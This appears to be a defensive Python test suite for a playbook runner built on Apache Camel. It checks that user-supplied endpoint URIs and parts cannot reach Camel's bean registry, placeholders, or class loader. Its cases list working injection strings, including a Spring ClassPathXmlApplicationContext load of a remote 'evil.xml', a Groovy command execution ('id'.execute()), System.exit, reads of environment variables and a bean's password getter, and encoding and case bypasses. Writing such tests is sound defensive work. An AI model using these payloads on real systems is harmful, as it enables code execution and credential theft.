"""kind: camel: text of a playbook must not reach Camel's reader of addresses, its placeholders, registry or class loader."""

from kit import Broken, attack, each

GROUP = "1 camel"

URIS = {
    "a bean made of a class": "log:audit.x?exchangeFormatter=#class:org.springframework.context.support.ClassPathXmlApplicationContext('{trap}')",
    "a bean made of a class, FileSystemXml": "log:audit.x?exchangeFormatter=%23class%3Aorg.springframework.context.support.FileSystemXmlApplicationContext('{trap}')",
    "a bean by its name": "log:audit.x?exchangeFormatter=#bean:dataSource",
    "a bean by its type": "log:audit.x?exchangeFormatter=#type:javax.sql.DataSource",
    "a value of the registry": "log:audit.x?level=#valueAs(java.lang.String):INFO",
    "a variable of the environment": "log:audit.{{{{env:ATTACK_ENVIRONMENT}}}}",
    "a variable as an option": "log:audit.x?marker={{{{env:ATTACK_ENVIRONMENT}}}}",
    "a variable, with a default": "log:audit.x?level={{{{env:ATTACK_ENVIRONMENT:INFO}}}}",
    "an optional property": "log:audit.x?marker={{{{?sys:java.home}}}}",
    "a property in place of the scheme": "{{{{sys:user.name}}}}:x",
    "a bean's getter as a placeholder": "log:audit.x?marker={{{{bean:dataSource.getPassword}}}}",
    "a simple expression": "log:audit.x?marker=${{env:ATTACK_ENVIRONMENT}}",
    "a raw value": "log:audit.x?marker=RAW({{{{env:ATTACK_ENVIRONMENT}}}})",
    "a raw value in braces": "log:audit.x?marker=RAW{{x}}",
    "an option that is an object": "log:audit.x?logger=#class:java.util.Date",
    "an option twice": "log:audit.x?level=INFO&level=#class:java.util.Date",
    "an option in another case": "log:audit.x?exchangeformatter=#class:java.util.Date",
    "an option with a dash": "log:audit.x?exchange-formatter=#class:java.util.Date",
    "an option behind a second mark": "log:audit.x?level=INFO?exchangeFormatter=#class:java.util.Date",
    "a fragment": "log:audit.x#?exchangeFormatter=#class:java.util.Date",
    "a path that leaves the glob": "log:other.x",
    "a path with a line end": "log:audit.x\nother",
    "lazy start of a producer": "log:audit.x?lazyStartProducer=true&exchangeFormatter=#class:java.util.Date",
    "a file is written": "file:{marks}?fileName={name}",
    "a file is written, named otherwise": "FILE://{marks}?fileName={name}",
    "http": "http:127.0.0.1:{port}/x",
    "a bean is called": "bean:credentialStore?method=list",
    "a class is called": "class:java.lang.System?method=exit(3)",
    "a language": "language:simple:${{env:ATTACK_ENVIRONMENT}}",
    "a script of a language": "language:groovy:'id'.execute()",
    "direct, into our own routes": "direct:start",
    "our own python component": "python:x?pointer=/workflow/0/tool",
    "our own playbook component": "playbook:ops/own",
    "our own step component": "step:x",
    "jdbc": "jdbc:dataSource",
    "rest": "rest:get:api/keys",
    "platform-http": "platform-http:/evil",
    "a placeholder as scheme and no colon": "{{{{env:ATTACK_ENVIRONMENT}}}}",
    "a percent-encoded scheme": "lo%67:audit.x?exchangeFormatter=%2523class:java.util.Date",
}


def try_it(c, uri):
    trap, mark = c.traps.new(), c.mark()
    text = uri.format(trap=trap.url("evil.xml"), port=trap.port, marks=c.marks, name=mark.rsplit("/", 1)[1])
    # restricted, where all of Camel is closed, and where the operator has opened a little
    for folder in ("tenants/red", "ops"):
        run = c.step({"kind": "camel", "uri": "{% raw %}" + text + "{% endraw %}", "body": "hello"}, folder)
        c.no_canary(run.text)
        c.must_end(run)
        if run.done:
            raise Broken("it ran: " + run.detail[-200:])
    trap.check()
    c.unmarked(mark)


each(GROUP, URIS)(try_it)

PARTS = {
    "parts: a scheme that is closed": {"scheme": "file", "path": "x"},
    "parts: a scheme with a placeholder": {"scheme": "{% raw %}{{env:ATTACK_ENVIRONMENT}}{% endraw %}", "path": "x"},
    "parts: a scheme with the rest in it": {"scheme": "log:audit.x?exchangeFormatter", "path": "#class:java.util.Date"},
    "parts: a path with options in it": {"scheme": "log", "path": "audit.x?exchangeFormatter=#class:java.util.Date"},
    "parts: an option that is closed": {"scheme": "log", "path": "audit.x", "options": {"exchangeFormatter": "#class:java.util.Date"}},
    "parts: a reference in an open option": {"scheme": "log", "path": "audit.x", "options": {"marker": "#bean:dataSource"}},
    "parts: a placeholder in an open option": {"scheme": "log", "path": "audit.x", "options": {"marker": "{% raw %}{{env:ATTACK_ENVIRONMENT}}{% endraw %}"}},
    "parts: a raw value in an open option": {"scheme": "log", "path": "audit.x", "options": {"marker": "RAW(#bean:dataSource)"}},
    "parts: an option's name with others in it": {"scheme": "log", "path": "audit.x", "options": {"level=INFO&exchangeFormatter": "#class:java.util.Date"}},
    "parts: a value with others in it": {"scheme": "log", "path": "audit.x", "options": {"level": "INFO&exchangeFormatter=#class:java.util.Date"}},
    "parts: a value of another type": {"scheme": "log", "path": "audit.x", "options": {"level": {"#class": "java.util.Date"}}},
    "parts: a header that steers Camel": {"scheme": "log", "path": "audit.x", "headers": {"CamelToEndpoint": "file:x", "CAMELFileName": "x"}},
}


@each(GROUP, PARTS)
def parts(c, given):
    for folder in ("tenants/red", "ops"):
        run = c.step(dict({"kind": "camel", "body": "hello"}, **given), folder)
        c.no_canary(run.text)
        c.must_end(run)
        if run.done:
            raise Broken("it ran: " + run.detail[-200:])
        if "exchangeFormatter=" in run.text and "SpringBoot" in run.text:
            raise Broken("Camel itself read it: " + run.text[:200])


@attack(GROUP, "what the operator has opened runs, so that the others mean something")
def opened(c):
    for tool in ({"uri": "log:audit.x?level=INFO&marker=m"}, {"scheme": "log", "path": "audit.x", "options": {"level": "INFO"}}):
        run = c.step(dict({"kind": "camel", "body": "hello"}, **tool), "ops")
        if not run.done:
            raise Broken("it does not: " + run.text[-300:])
